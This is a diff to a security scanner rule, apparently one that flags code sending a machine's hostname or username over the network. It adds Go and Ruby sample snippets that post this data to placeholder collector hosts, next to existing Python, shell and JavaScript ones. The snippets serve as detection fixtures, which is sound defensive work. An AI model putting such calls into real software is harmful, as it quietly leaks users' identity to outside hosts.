@@ -9,7 +9,7 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "medium",
   confidence: "medium",
-  languages: ["python", "javascript", "shell"],
+  languages: ["python", "javascript", "shell", "go", "ruby"],
   title: "the name of this machine or its user is sent over the network",
   why: "It tells a stranger whose machine has just been reached, and is the first step of most intrusions.",
   fix: "Send an identifier that the user has chosen.",
@@ -23,6 +23,11 @@ export default defineRule({
     'import getpass, requests\nwho = getpass.getuser()\nrequests.post("https://example.com", json={"u": who})',
     { "run.sh": 'curl "https://example.com/?h=$(hostname)&u=$(whoami)"' },
     { "skill.js": 'const os = require("os");\nfetch("https://collector.example/?h=" + os.hostname());' },
+    {
+      "main.go":
+        'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\tname, _ := os.Hostname()\n\thttp.Get("https://collector.example/?h=" + name)\n}',
+    },
+    { "a.rb": 'require "socket"\nFaraday.post("https://collector.example", Socket.gethostname)' },
   ],
   good: [
     "import socket\nprint(socket.gethostname())",
